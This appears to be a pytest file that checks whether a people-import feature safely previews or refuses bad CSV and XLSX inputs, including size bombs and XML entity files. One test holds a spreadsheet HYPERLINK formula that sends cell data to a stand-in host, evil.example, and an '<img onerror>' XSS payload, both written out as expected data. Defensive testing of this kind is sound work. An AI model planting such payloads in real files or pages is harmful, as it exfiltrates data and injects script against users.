"""The collected bad inputs of imports: each is read, or refused with a reason, and nothing else happens."""

from __future__ import annotations

import json
import os
import time
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook

from fishbowl_app.imports.columns import guess_people
from fishbowl_app.imports.grid import DoubtKind
from fishbowl_app.imports.people import PeoplePreview, preview_people
from fishbowl_app.imports.table import read_file
from fishbowl_app.model.errors import DataProblem, DataRefused

FILES = Path(os.environ.get("BAD_INPUTS", Path(__file__).parents[1] / "files" / "bad-inputs"))
CASES = {
    case["id"]: case
    for case in json.loads((FILES / "import.json").read_text(encoding="utf-8"))["cases"]
    if case["class"] != "agenda-json"
}
REASONS = {
    "csv-size": {DataProblem.TOO_BIG, DataProblem.TOO_MANY_ROWS, DataProblem.TOO_MANY_COLUMNS},
    "xlsx-bomb": {DataProblem.UNPACKS_TOO_BIG},
    "xlsx-entities": {DataProblem.DAMAGED},
    "xlsx-disguised": {DataProblem.NOT_A_SPREADSHEET},
}


def peak_mb() -> float:
    """Return the most memory this process has had, 0 where the system does not say."""
    try:
        import resource
    except ImportError:
        return 0.0
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def made(case: dict, folder: Path, make_workbook) -> Path:
    """Write the file of a case and return where it is."""
    generator = case["generator"]
    path = folder / generator.get("name", "people.csv")
    match generator["gen"]:
        case "file_text":
            path.write_bytes(generator["text"].encode(generator["encoding"]))
        case "file_hex":
            path.write_bytes(bytes.fromhex(generator["hex"]))
        case "csv_rows":
            with path.open("w", encoding="utf-8") as file:
                file.writelines(generator["row"].replace("{i}", str(i)) + "\n" for i in range(generator["rows"]))
        case "xlsx":
            path.write_bytes(workbook(generator, make_workbook))
        case other:
            raise AssertionError(other)
    return path


def workbook(generator: dict, make_workbook) -> bytes:
    sheet = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
    if "shared_strings_mb" in generator:
        strings = "<sst><si><t>" + "x" * (generator["shared_strings_mb"] * 1024 * 1024) + "</t></si></sst>"
        return make_workbook(sheet, strings=strings)
    if "shared_strings_xml" in generator:
        return make_workbook(sheet, strings=generator["shared_strings_xml"])
    book = Workbook()
    for place, value in generator["cells"].items():
        book.active[place] = value.replace("{CANARY_PORT}", "9")
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def previewed(path: Path) -> PeoplePreview:
    table = read_file(path)
    return preview_people(table, guess_people(table), (), ())


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_a_bad_file_is_previewed_or_refused_as_expected(case, tmp_path, make_workbook):
    path = made(case, tmp_path, make_workbook)
    expected = case["expected"]
    memory, started = peak_mb(), time.monotonic()
    problem, preview = None, None
    try:
        preview = previewed(path)
    except DataRefused as refused:
        problem = refused.problem
    assert time.monotonic() - started < expected.get("within_s", 3)
    assert peak_mb() - memory < expected.get("rss_growth_mb_at_most", 100)
    if expected["action"] == "refuse_file":
        assert problem in REASONS[case["class"]]
    elif expected["action"] == "import_ok":
        assert preview is not None
        assert len(preview.plan().rows) == expected["rows"]
    else:
        assert problem in (None, DataProblem.EMPTY, DataProblem.NO_COLUMN)
    for row in preview.rows if preview else ():
        assert "\0" not in row.name + row.group_name + row.role + row.note


def test_formulas_and_markup_stay_the_text_that_they_are(tmp_path, make_workbook):
    formulas = previewed(made(CASES["im-001"], tmp_path, make_workbook)).plan().rows
    assert [(row.name, row.note) for row in formulas] == [
        ("Anna", "=1+1"),
        ("Ben", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ]
    markup = previewed(made(CASES["im-008"], tmp_path, make_workbook)).plan().rows
    assert [(row.name, row.note) for row in markup] == [("<b>x</b>", "<img src=x onerror=alert(1)>")]


def test_european_names_are_intact(tmp_path, make_workbook):
    table = read_file(made(CASES["im-002"], tmp_path, make_workbook))
    assert (table.rows[1].cells, table.encoding, table.delimiter) == (("Jürgen", "Größe"), "cp1252", ";")


def test_the_doubtful_line_is_named_and_no_row_is_lost(tmp_path, make_workbook):
    path = made(CASES["im-003"], tmp_path, make_workbook)
    assert [(d.kind, d.line) for d in read_file(path).doubts] == [(DoubtKind.UNCLOSED_QUOTE, 2)]
    assert [row.name for row in previewed(path).plan().rows] == ["Anna", "Ben"]
